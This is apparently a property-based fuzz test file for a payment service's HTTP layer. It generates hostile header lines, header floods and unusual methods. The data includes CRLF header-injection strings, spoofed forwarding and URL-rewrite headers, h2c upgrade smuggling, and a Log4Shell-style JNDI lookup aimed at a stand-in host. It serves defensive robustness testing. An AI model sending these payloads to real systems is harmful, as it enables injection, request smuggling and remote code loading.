package com.yuge.payment.app.hostile;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;

/** Headers, many, long or odd, and methods that nobody takes. */
final class HeaderAttacks {
  private static final String TRACE = "00-" + "0".repeat(32) + "-" + "0".repeat(16) + "-01";

  private static final List<String> LINES =
      List.of(
          "X: " + "a".repeat(6000),
          "X: " + "a".repeat(9000),
          "X: " + "a".repeat(40_000),
          "X-" + "a".repeat(7000) + ": 1",
          ": empty",
          "X : blank",
          " X: folded",
          "X: a\r\n folded",
          "X: \u0000",
          "X: a\rb",
          "X: a\nY: b",
          "X: \u00ff\u00fe",
          "X\u00e9: 1",
          "X(y): 1",
          "X",
          "X:",
          "Host: other",
          "Host:",
          "Host: a b",
          "Host: [::1",
          "Host: 127.0.0.1:99999",
          "Host: \u00e9",
          "Accept: x",
          "Accept: text/html",
          "Accept: */*;q=x",
          "Accept: " + "a/b,".repeat(1000),
          "Accept-Language: -",
          "Accept-Language: " + "en-US,".repeat(900),
          "Accept-Language: *;q=2",
          "Accept-Language: en;q=0.0000001",
          "Accept-Charset: x",
          "Accept-Encoding: gzip, x",
          "X-Forwarded-For: 1.2.3.4, \u0000",
          "X-Forwarded-For: 10.0.0.1",
          "X-Forwarded-Host: evil",
          "X-Forwarded-Proto: ftp",
          "X-Forwarded-Prefix: /../..",
          "X-Forwarded-Port: x",
          "Forwarded: for=\"[::\";proto=;host=",
          "X-Original-URL: /actuator",
          "X-Rewrite-URL: /",
          "X-HTTP-Method-Override: DELETE",
          "X-Http-Method: PUT",
          "traceparent: " + TRACE,
          "traceparent: 00-" + "g".repeat(32) + "-x-y",
          "traceparent: " + "f".repeat(5000),
          "tracestate: " + "a=b,".repeat(1000),
          "baggage: " + "a=b,".repeat(1000),
          "baggage: =;,;=",
          "b3: x",
          "Cookie: " + "a=b; ".repeat(1000),
          "Cookie: JSESSIONID=x",
          "Cookie: a=\"",
          "Range: bytes=0-,1-,2-",
          "Range: bytes=-1",
          "If-Modified-Since: x",
          "If-None-Match: *",
          "If-Match: \"x\"",
          "Origin: null",
          "Origin: http://evil\r\nAccess-Control-Request-Method: X",
          "Connection: Upgrade\r\nUpgrade: websocket",
          "Connection: Upgrade, HTTP2-Settings\r\nUpgrade:"
              + " h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA",
          "Connection: Host, Content-Length",
          "Connection: close, keep-alive",
          "Keep-Alive: timeout=999999, max=999999",
          "TE: trailers",
          "Trailer: Content-Length",
          "Expect: 100-continue",
          "Expect: x",
          "Max-Forwards: -1",
          "X-Payment-Key-Id: dev-1",
          "X-Payment-Signature: zz",
          "X-Payment-Key-Id: \u0000",
          "Referer: " + "r".repeat(5000),
          "User-Agent: ${jndi:ldap://x/y}",
          "Via: 1.1 a");

  private static final List<String> METHODS =
      List.of(
          "HEAD",
          "OPTIONS",
          "TRACE",
          "PUT",
          "PATCH",
          "DELETE",
          "CONNECT",
          "PROPFIND",
          "get",
          "GeT",
          "X",
          "GET-",
          "A".repeat(200),
          "PURGE",
          "QUERY");

  private HeaderAttacks() {}

  static Arbitrary<HostileRequest> headers(Endpoint endpoint) {
    return Arbitraries.of(LINES)
        .list()
        .ofMinSize(1)
        .ofMaxSize(3)
        .map(lines -> request(Kind.HEADER, endpoint, endpoint.method(), lines));
  }

  static Arbitrary<HostileRequest> floods(Endpoint endpoint) {
    return Combinators.combine(
            Arbitraries.of(10, 90, 97, 150, 700, 5000),
            Arbitraries.of("X-", "Cookie", "Accept", ""))
        .as((count, name) -> request(Kind.FLOOD, endpoint, endpoint.method(), flood(count, name)));
  }

  static Arbitrary<HostileRequest> methods(Endpoint endpoint) {
    return Arbitraries.of(METHODS).map(method -> request(Kind.METHOD, endpoint, method, List.of()));
  }

  private static List<String> flood(int count, String name) {
    return IntStream.range(0, count)
        .mapToObj(n -> (name.endsWith("-") ? name + n : name) + ": " + n)
        .collect(Collectors.toList());
  }

  private static HostileRequest request(
      Kind kind, Endpoint endpoint, String method, List<String> lines) {
    List<String> all = new ArrayList<>(endpoint.headers());
    all.addAll(lines);
    return HostileRequest.of(kind, endpoint, method, endpoint.path(), all, endpoint.body());
  }
}
